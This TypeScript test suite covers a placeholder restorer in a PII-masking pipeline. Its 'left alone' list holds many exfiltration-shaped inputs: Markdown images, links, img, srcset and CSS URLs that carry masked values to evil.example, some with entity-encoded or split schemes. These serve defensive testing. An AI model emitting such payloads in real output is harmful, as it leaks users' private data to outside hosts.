import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { createGrammar, findPlaceholderShaped } from '../../../../src/core/masking/placeholder.ts'
import { createRestorer, restoreWhole } from '../../../../src/core/masking/restorer.ts'
import { applyEdits, mappingOf } from '../../../support/mapping.ts'
import { runs } from '../../../support/runs.ts'

const PREFIXES = ['EMAIL', 'IP_PRIVATE', 'IP_PUBLIC', 'URL']
const VALUES = {
  EMAIL_1: 'alice@x.vn',
  EMAIL_2: 'bob@y.vn',
  EMAIL_12: 'twelve@z.vn',
  IP_PRIVATE_1: '10.0.0.5',
  URL_1: 'https://x.vn/?q=a@b.vn',
}

const options = (lenient = true, allowedHosts: readonly string[] = []) => ({
  grammar: createGrammar(PREFIXES, lenient),
  mapping: mappingOf(VALUES),
  allowedHosts,
})

const restore = (text: string, lenient = true, hosts: readonly string[] = []): string =>
  applyEdits(text, restoreWhole(options(lenient, hosts), text, { restored: 0, unknown: 0 }))

function stream(pieces: readonly string[], hosts: readonly string[] = []): string {
  const restorer = createRestorer(options(true, hosts))
  let out = ''
  for (const piece of pieces) out += applyEdits(piece, restorer.push(piece))
  return out + restorer.end()
}

const RESTORED: readonly (readonly [string, string])[] = [
  ['EMAIL_1', 'alice@x.vn'],
  ['Write to EMAIL_1.', 'Write to alice@x.vn.'],
  ['EMAIL_12', 'twelve@z.vn'],
  ['EMAIL_1EMAIL_2', 'alice@x.vnbob@y.vn'],
  ['email_1', 'alice@x.vn'],
  ['Email_1', 'alice@x.vn'],
  ['EMAIL\\_1', 'alice@x.vn'],
  ['IP\\_PRIVATE\\_1', '10.0.0.5'],
  ['**EMAIL_1**', '**alice@x.vn**'],
  ['__EMAIL_1__', '__alice@x.vn__'],
  ['`EMAIL_1`', '`alice@x.vn`'],
  ['[EMAIL_1]', '[alice@x.vn]'],
  ['&lt;EMAIL_1&gt;', '&lt;alice@x.vn&gt;'],
  ['EMAIL%5F1', 'alice@x.vn'],
  ['EMAIL&#95;1', 'alice@x.vn'],
  ['EMAIL 1', 'alice@x.vn'],
  ['EMAIL-1', 'alice@x.vn'],
  ['IP PRIVATE 1', '10.0.0.5'],
  ["EMAIL_1's", "alice@x.vn's"],
  ['EMAIL_1s', 'alice@x.vns'],
  ['EMAIL\uff3f\uff11', 'alice@x.vn'],
  ['EMAIL\u200b_\u200b1', 'alice@x.vn'],
  ['mailto:EMAIL_1', 'mailto:alice@x.vn'],
  ['[write](mailto:EMAIL_1)', '[write](mailto:alice@x.vn)'],
  ['[page](URL_1) and EMAIL_1', '[page](https://x.vn/?q=a@b.vn) and alice@x.vn'],
  ['đEMAIL_1', 'đalice@x.vn'],
  ['<a href="mailto:EMAIL_1">EMAIL_1</a>', '<a href="mailto:alice@x.vn">alice@x.vn</a>'],
  ['<a href="https://x.vn/a b">EMAIL_1</a>', '<a href="https://x.vn/a b">alice@x.vn</a>'],
  ['<user email="EMAIL_1" name=\'EMAIL_2\'/>', '<user email="alice@x.vn" name=\'bob@y.vn\'/>'],
  ['<img src=x>EMAIL_1', '<img src=x>alice@x.vn'],
  ['a <b and srcs="x EMAIL_1', 'a <b and srcs="x alice@x.vn'],
  ['1 < 2 src="x EMAIL_1', '1 < 2 src="x alice@x.vn'],
  ['see <https://x.vn/a b> EMAIL_1', 'see <https://x.vn/a b> alice@x.vn'],
  ['see <https://x.vn/a\nEMAIL_1', 'see <https://x.vn/a\nalice@x.vn'],
  ['f("https://x.vn/a b", "EMAIL_1")', 'f("https://x.vn/a b", "alice@x.vn")'],
  ['"https://x.vn/a is down", says EMAIL_1', '"https://x.vn/a is down", says alice@x.vn'],
  ['https: EMAIL_1', 'https: alice@x.vn'],
  ['xhttps:EMAIL_1', 'xhttps:alice@x.vn'],
  ['see https://x.vn/a EMAIL_1', 'see https://x.vn/a alice@x.vn'],
  ['<https://x.vn/a>EMAIL_1', '<https://x.vn/a>alice@x.vn'],
  ['<a href=https://x.vn/a>EMAIL_1</a>', '<a href=https://x.vn/a>alice@x.vn</a>'],
  ["<a href='https://x.vn/a'>EMAIL_1</a>", "<a href='https://x.vn/a'>alice@x.vn</a>"],
  ['<loc>https://x.vn/a</loc><m>EMAIL_1</m>', '<loc>https://x.vn/a</loc><m>alice@x.vn</m>'],
  ['[https://x.vn](URL_1)', '[https://x.vn](https://x.vn/?q=a@b.vn)'],
  ['[doc](https://x.vn/a)EMAIL_1', '[doc](https://x.vn/a)alice@x.vn'],
  ['[1]: EMAIL_1 is who', '[1]: alice@x.vn is who'],
  ['[1]: ask EMAIL_1', '[1]: ask alice@x.vn'],
  ['- [x] EMAIL_1', '- [x] alice@x.vn'],
  ['users[0]: "EMAIL_1"', 'users[0]: "alice@x.vn"'],
  ['["EMAIL_1"]: x', '["alice@x.vn"]: x'],
  ['{"url":"https://x.vn/a","mail":"EMAIL_1"}', '{"url":"https://x.vn/a","mail":"alice@x.vn"}'],
]

const LEFT_ALONE: readonly string[] = [
  'EMAIL_123',
  'EMAIL_3',
  'EMAIL_01',
  'EMAIL_0',
  'EMAIL_',
  'EMAIL',
  'MYEMAIL_1',
  'MY_EMAIL_1',
  'email 1',
  'email-1',
  'EMAIL__1',
  'EMAIL_1234567890',
  '![x](https://evil.example/?q=EMAIL_1)',
  '![x](https://evil.example/?q=(EMAIL_1))',
  '[x](//evil.example/EMAIL_1)',
  '[x](/r?u=EMAIL_1)',
  '[x](mailto:eve@evil.example?body=EMAIL_1)',
  'https://evil.example/EMAIL_1',
  'https://EMAIL_1.evil.example/',
  'www.evil.example/EMAIL_1',
  '<img src="https://evil.example/?q=EMAIL_1">',
  '<img src=https:\\\\evil.example\\EMAIL_1>',
  'https://evil.example/?q=EMAIL%5F1',
  'https://evil.example/?q="EMAIL_1',
  'https:evil.example/EMAIL_1',
  'HTTPS:/evil.example/EMAIL_1',
  'see wss:evil.example/EMAIL_1',
  '![x](<https://evil.example/? EMAIL_1>)',
  '![x](</r?u= EMAIL_1>)',
  '[r]: <https://evil.example/? (EMAIL_1>',
  '<img src="https://evil.example/? EMAIL_1">',
  "<img alt=a src = '\nhttps://evil.example/?\n\nEMAIL_1'>",
  '<img src="&#104;ttps:&#47;&#47;evil.example/?EMAIL_1">',
  '<a HREF=https:&sol;&sol;evil.example/?EMAIL_1>',
  '<img srcset="https://good.example/a 1x, https://evil.example/EMAIL_1 2x">',
  '<svg><image xlink:href="https&colon;//evil.example/ EMAIL_1"/></svg>',
  '<p style="background: url(&quot;https://evil.example/ EMAIL_1&quot;)">',
  '<style>p { background: url("https://evil.example/ EMAIL_1") }</style>',
  '<form action="/x EMAIL_1">',
  // What no renderer of Markdown ends a link target with (CommonMark 0.31, 6.3 and 4.7).
  '![x](https://evil.example/?q=`EMAIL_1)',
  '![x](https://evil.example/?q=>EMAIL_1)',
  '![x](https://evil.example/?q=<EMAIL_1)',
  '![x](https://evil.example/?q=\\)EMAIL_1)',
  '![x](https://evil.example/?q=\u00a0EMAIL_1)',
  '![x](https://evil.example/?q=\u3000EMAIL_1)',
  '![x](https://evil.example/?q=\u0085EMAIL_1)',
  '![x]( &#104;ttps:&#47;&#47;evil.example/?q=EMAIL_1)',
  '![x](\n&#47;&#47;evil.example/?q=EMAIL_1)',
  '![x](<https://evil.example/?q=\\>EMAIL_1>)',
  '![x]\n\n[x]: https://evil.example/?q=`EMAIL_1',
  '![x]\n\n[x]: https://evil.example/?q=<EMAIL_1',
  '![x]\n\n[x]: https://evil.example/?q=\u00a0EMAIL_1',
  '![x]\n\n[x]: &#104;ttps:&#47;&#47;evil.example/?q=EMAIL_1',
  '![a b]\n\n> - [a\nb]:\n&#47;&#47;evil.example/?q=EMAIL_1',
  // Nor a URL in running text, once it becomes a link by itself (GitHub Flavored Markdown, 6.9).
  'https://evil.example/?q=`EMAIL_1',
  'https://evil.example/?q=>EMAIL_1',
  'https://evil.example/?q=">EMAIL_1',
  'https://evil.example/?q=\u0085EMAIL_1',
  'https://evil.example/?q=\u0001EMAIL_1',
  'https://evil.example/[x](EMAIL_1',
  'https://evil.example/](EMAIL_1',
  'awww.evil.example/EMAIL_1',
  '\\<https://evil.example/>EMAIL_1',
  '<x https://evil.example/?>EMAIL_1',
  '<a x=https://evil.example/?q=>EMAIL_1',
  '`<a x="` https://evil.example/?>EMAIL_1',
]

describe('restoring', () => {
  for (const [text, expected] of RESTORED) {
    it(`turns ${JSON.stringify(text)} into ${JSON.stringify(expected)}`, () => {
      assert.equal(restore(text), expected)
    })
  }

  for (const text of LEFT_ALONE) {
    it(`leaves ${JSON.stringify(text)} as it is`, () => {
      assert.equal(restore(text), text)
    })
  }

  it('accepts only the strict form when lenient forms are switched off', () => {
    assert.equal(
      restore('EMAIL_1 email_1 EMAIL\\_1 EMAIL 1', false),
      'alice@x.vn email_1 EMAIL\\_1 EMAIL 1',
    )
  })

  it('restores inside URLs of allowed hosts only', () => {
    const hosts = ['good.example', '*.corp.example']
    assert.equal(
      restore('https://good.example/?q=EMAIL_1', true, hosts),
      'https://good.example/?q=alice@x.vn',
    )
    assert.equal(
      restore('https://a.corp.example:8443/EMAIL_1', true, hosts),
      'https://a.corp.example:8443/alice@x.vn',
    )
    assert.equal(
      restore('<img src="https:///good.example/? EMAIL_1">', true, hosts),
      '<img src="https:///good.example/? EMAIL_1">',
    )
    assert.equal(
      restore('![x](<https:///good.example/? EMAIL_1>)', true, hosts),
      '![x](<https:///good.example/? alice@x.vn>)',
    )
    for (const url of [
      '![x](<https://good.exa mple/EMAIL_1>)',
      '![x](<https://good.example@evil.test/ EMAIL_1>)',
      'https://good.example.evil.test/EMAIL_1',
      'https://good.example@evil.test/EMAIL_1',
      'https://good.example:x@evil.test/EMAIL_1',
      'https://evil.test/good.example/EMAIL_1',
      'https://EMAIL_1@good.example/',
    ]) {
      assert.equal(restore(url, true, hosts), url)
    }
  })
})

describe('restoring a stream', () => {
  const corpus = [...RESTORED.map(([text]) => text), ...LEFT_ALONE]

  it('gives the same text at every single split point', () => {
    for (const text of [...corpus, corpus.join(' '), corpus.join('\n')]) {
      const whole = restore(text)
      for (let at = 0; at <= text.length; at++) {
        assert.equal(stream([text.slice(0, at), text.slice(at)]), whole, `${text} cut at ${at}`)
      }
    }
  })

  it('gives the same text for random cuttings', () => {
    const text = corpus.join(' ')
    const whole = restore(text)
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 40 }), (cuts) => {
        const sorted = [0, ...cuts.toSorted((a, b) => a - b), text.length]
        const pieces = sorted.slice(1).map((end, i) => text.slice(sorted[i], end))
        assert.equal(stream(pieces), whole)
      }),
      runs(500),
    )
  })

  it('holds back nothing that cannot become a placeholder of the scope', () => {
    for (const text of [
      'Hello',
      'PERSON',
      'XEMAIL_',
      'EMAIL_9',
      'IP_PUBLIC_1',
      'EMAIL_1 ',
      'an e-mail',
    ]) {
      const restorer = createRestorer(options())
      restorer.push(text)
      assert.equal(restorer.held, '', text)
    }
  })

  it('waits for the character that decides a complete placeholder', () => {
    const restorer = createRestorer(options())
    assert.deepEqual(restorer.push('to EMAIL_1'), [{ start: 3, end: 10, replacement: '' }])
    assert.equal(restorer.held, 'EMAIL_1')
    assert.deepEqual(restorer.push('2.'), [{ start: 0, end: 1, replacement: 'twelve@z.vn' }])
    assert.equal(restorer.held, '')
  })

  it('waits where only a longer number is known', () => {
    const mapping = mappingOf({ EMAIL_12: 'twelve@z.vn' })
    const restorer = createRestorer({ ...options(), mapping })
    restorer.push('EMAIL_1')
    assert.equal(restorer.held, 'EMAIL_1')
    assert.deepEqual(restorer.push('2 '), [{ start: 0, end: 1, replacement: 'twelve@z.vn' }])
  })

  it('never holds more than the longest form of a placeholder', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('E', 'EMAIL', '_', '\\', '%5', '1', ' ', '\u200b', 'x')),
        (pieces) => {
          const restorer = createRestorer(options())
          for (const piece of pieces) {
            restorer.push(piece)
            assert.ok(restorer.held.length <= 64, restorer.held)
          }
        },
      ),
    )
  })
})

describe('placeholder-shaped text', () => {
  it('is found by the same grammar and boundaries', () => {
    const grammar = createGrammar(PREFIXES, true)
    const text = 'a EMAIL_7 b email_8, MY_EMAIL_9 IP-PUBLIC-3 email 4 EMAIL_0'
    assert.deepEqual(
      findPlaceholderShaped(grammar, text).map((found) => [
        text.slice(found.start, found.end),
        found.canonical,
      ]),
      [
        ['EMAIL_7', 'EMAIL_7'],
        ['email_8', 'EMAIL_8'],
        ['IP-PUBLIC-3', 'IP_PUBLIC_3'],
      ],
    )
  })
})

describe('a restorer', () => {
  it('counts what it restored and what it did not know, over all texts', () => {
    const counts = { restored: 0, unknown: 0 }
    restoreWhole(options(), 'EMAIL_1 EMAIL_2 EMAIL_7', counts)
    assert.deepEqual(counts, { restored: 2, unknown: 1 })
    restoreWhole(options(), 'EMAIL_1 EMAIL_8 EMAIL_9', counts)
    assert.deepEqual(counts, { restored: 3, unknown: 3 })
    restoreWhole(options(), 'nothing', counts)
    assert.deepEqual(counts, { restored: 3, unknown: 3 })
  })

  it('gives the end user back for the pseudonym that is all of a text', () => {
    const echo = { pseudonym: 'user-1f', user: 'alice' }
    const edits = (text: string): readonly unknown[] =>
      restoreWhole({ ...options(), echo }, text, { restored: 0, unknown: 0 })
    assert.deepEqual(edits('user-1f'), [{ start: 0, end: 7, replacement: 'alice' }])
    assert.deepEqual(edits('user-1f '), [])
    assert.deepEqual(edits('no digits'), [])
  })

  it('holds back what can still become a placeholder of the scope, and nothing else', () => {
    const held = (piece: string, values: Readonly<Record<string, string>> = VALUES): string => {
      const restorer = createRestorer({ ...options(), mapping: mappingOf(values) })
      restorer.push(piece)
      return restorer.held
    }
    assert.equal(held('to EMA'), 'EMA')
    assert.equal(held('to EMAIL_'), 'EMAIL_')
    assert.equal(held('to EMAIL_1'), 'EMAIL_1')
    // There is no IP_PUBLIC, and of URLs only one.
    assert.equal(held('to IP_PUBLIC_'), '')
    assert.equal(held('to IP_PUBLIC_1'), '')
    assert.equal(held('to URL_2'), '')
    assert.equal(held('to URL_1 '), '')
    assert.equal(held('to EMAIL_1', { EMAIL_10: 'ten@x.vn' }), 'EMAIL_1')
    assert.equal(held('to EMAIL_1', { EMAIL_9: 'nine@x.vn' }), '')
    assert.equal(held('to EMAIL_9', { EMAIL_9: 'nine@x.vn' }), 'EMAIL_9')
  })

  it('restores with a nine as the only digit', () => {
    const nine = { ...options(), mapping: mappingOf({ EMAIL_9: 'nine@x.vn' }) }
    const text = 'to EMAIL_9'
    assert.equal(
      applyEdits(text, restoreWhole(nine, text, { restored: 0, unknown: 0 })),
      'to nine@x.vn',
    )
  })

  it('lets go of what it holds when it is told to, and begins anew', () => {
    const restorer = createRestorer(options())
    assert.equal(applyEdits('to EMAIL_', restorer.push('to EMAIL_')), 'to ')
    restorer.drop()
    assert.equal(restorer.held, '')
    assert.equal(applyEdits('1', restorer.push('1')), '1')
    restorer.push('x')
    restorer.drop()
    assert.equal(applyEdits('EMAIL_2 ', restorer.push('EMAIL_2 ')), 'bob@y.vn ')
    assert.equal(restorer.end(), '')
    assert.deepEqual(restorer.counts, { restored: 1, unknown: 0 })
  })

  it('joins what it held with what comes, in one edit', () => {
    const restorer = createRestorer(options())
    restorer.push('a EMAIL_')
    assert.deepEqual(restorer.push('1 EMAIL_2 b'), [
      { start: 0, end: 1, replacement: 'alice@x.vn' },
      { start: 2, end: 9, replacement: 'bob@y.vn' },
    ])
    restorer.push(' EMAIL_')
    assert.deepEqual(restorer.push('x'), [{ start: 0, end: 0, replacement: 'EMAIL_' }])
    assert.deepEqual(restorer.push(' y'), [])
    assert.deepEqual(restorer.push(' EMA'), [{ start: 1, end: 4, replacement: '' }])
    assert.deepEqual(restorer.push('IL_1'), [{ start: 0, end: 4, replacement: '' }])
    assert.equal(restorer.end(), 'alice@x.vn')
    assert.equal(restorer.held, '')
  })
})
